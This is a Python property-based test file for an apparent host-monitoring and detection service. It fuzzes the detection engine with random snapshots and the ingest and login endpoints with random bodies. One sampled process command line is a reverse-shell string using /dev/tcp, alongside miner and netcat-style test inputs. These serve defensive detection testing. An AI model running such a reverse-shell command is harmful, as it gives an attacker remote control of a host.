"""Property tests: random valid snapshots never crash the engine; random bytes never 5xx."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from litestar.testing import TestClient

from kefal_lite.app import create_app
from kefal_lite.clock import FrozenClock
from kefal_lite.detect.builtins import BUILTINS
from kefal_lite.detect.engine import Catalog, evaluate
from kefal_lite.detect.state import HostState, dumps, loads
from kefal_lite.snapshot import Snapshot
from tests.builders import T0, as_json, snap
from tests.conftest import enroll, make_settings, register

CATALOG = Catalog(BUILTINS)

names = st.sampled_from(["sshd", "bash", "xmrig", "postgres", "[kworker/0:1]", "nc", "auditd",
                         "Python.EXE", "", "ngrok", "nginx", "ä中", "a\nb"]) | st.text(max_size=20)  # fmt: skip
users = st.none() | st.sampled_from(["root", "www-data", "alice", "0", ""])
paths = st.none() | st.sampled_from(["/tmp/x", "/usr/bin/x (deleted)", "/private/tmp/y", "C:\\Temp\\a.exe",
                                     "", "/dev/shm/", "/home/a/b"]) | st.text(max_size=30)  # fmt: skip
addresses = st.none() | st.sampled_from(
    ["0.0.0.0", "::", "127.0.0.1", "::1", "[::1]", "*", "", "10.0.0.1%eth0"]
)

process = st.fixed_dictionaries({
    "pid": st.integers(0, 2**31), "name": names, "user": users,
    "cpu_percent": st.floats(0, 5000, allow_nan=False), "exe": paths,
    "cmdline": st.none() | st.text(max_size=80) | st.sampled_from(["bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "STRATUM+TCP://x"]),
    "ppid": st.none() | st.integers(0, 5),
})  # fmt: skip
lport = st.fixed_dictionaries({
    "port": st.integers(0, 65535) | st.sampled_from([22, 5432, 2375, 5901]), "protocol": st.sampled_from(["tcp", "udp", ""]),
    "process": st.none() | names, "address": addresses,
})  # fmt: skip
conn = st.fixed_dictionaries({
    "remote_address": st.sampled_from(["1.2.3.4", "::1", ""]), "remote_port": st.integers(0, 65535),
    "local_port": st.none() | st.integers(0, 65535), "process": st.none() | names,
})  # fmt: skip
account = st.fixed_dictionaries({
    "name": names, "uid": st.none() | st.integers(-5, 70000),
    "groups": st.lists(st.sampled_from(["sudo", "wheel", "users", ""]), max_size=3),
})  # fmt: skip
snapshot_dicts = st.fixed_dictionaries({
    "agent_id": st.just("a"),
    "timestamp": st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC)),
    "hostname": st.just("h"), "os": st.sampled_from(["linux", "darwin", "windows"]), "kernel": st.text(max_size=10),
    "uptime_seconds": st.integers(0, 10**9),
    "processes": st.lists(process, max_size=25), "listening_ports": st.lists(lport, max_size=8),
    "logged_in_users": st.lists(names, max_size=4), "connections": st.lists(conn, max_size=5),
    "users": st.lists(account, max_size=5),
    "ssh_authorized_keys": st.lists(st.fixed_dictionaries({"user": names, "fingerprint": st.text(max_size=10)}), max_size=3),
})  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(snapshot_dicts, min_size=1, max_size=6), st.integers(-(10**6), 10**6))
def test_random_valid_snapshots_never_crash_the_engine(
    seq: list[dict[str, Any]], skew: int
) -> None:
    state = HostState()
    for data in seq:
        try:
            s = msgspec.convert(data, Snapshot)
        except msgspec.ValidationError:
            continue  # outside the wire contract: ingest answers 400 before the engine
        findings, state = evaluate(s, state, CATALOG, s.timestamp + timedelta(seconds=skew))
        for f in findings:
            assert f.subject and f.title and f.severity in ("low", "medium", "high", "critical")
            msgspec.json.encode(f.evidence)  # evidence is storable as JSON
        assert loads(dumps(state)) == state


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=10),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


def test_random_bodies_never_produce_a_5xx(tmp_path: Path) -> None:
    clock = FrozenClock(T0)
    with TestClient(create_app(make_settings(tmp_path / "d"), clock=clock)) as client:
        register(client, "alice")
        agent = enroll(client, "alice")
        headers = {"Authorization": f"Bearer {agent['token']}", "Content-Type": "application/json"}
        good = msgspec.json.decode(as_json(snap(0, agent_id=agent["agent_id"])))

        @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
        @given(st.binary(max_size=300))
        def random_bytes(body: bytes) -> None:
            r = client.post("/api/v1/ingest", content=body, headers=headers)
            assert r.status_code in (400, 413), r.text

        @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
        @given(st.sampled_from(sorted(good)), json_values)
        def field_mutations(field: str, value: Any) -> None:
            body = msgspec.json.encode({**good, field: value})
            r = client.post("/api/v1/ingest", content=body, headers=headers)
            assert r.status_code < 500, r.text
            assert r.status_code in (200, 400, 403), r.text

        @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
        @given(st.text(max_size=200))
        def login_bodies(text: str) -> None:
            r = client.post(
                "/auth/login", content=text.encode(), headers={"Content-Type": "application/json"}
            )
            assert r.status_code in (400, 401), r.text

        random_bytes()
        field_mutations()
        login_bodies()
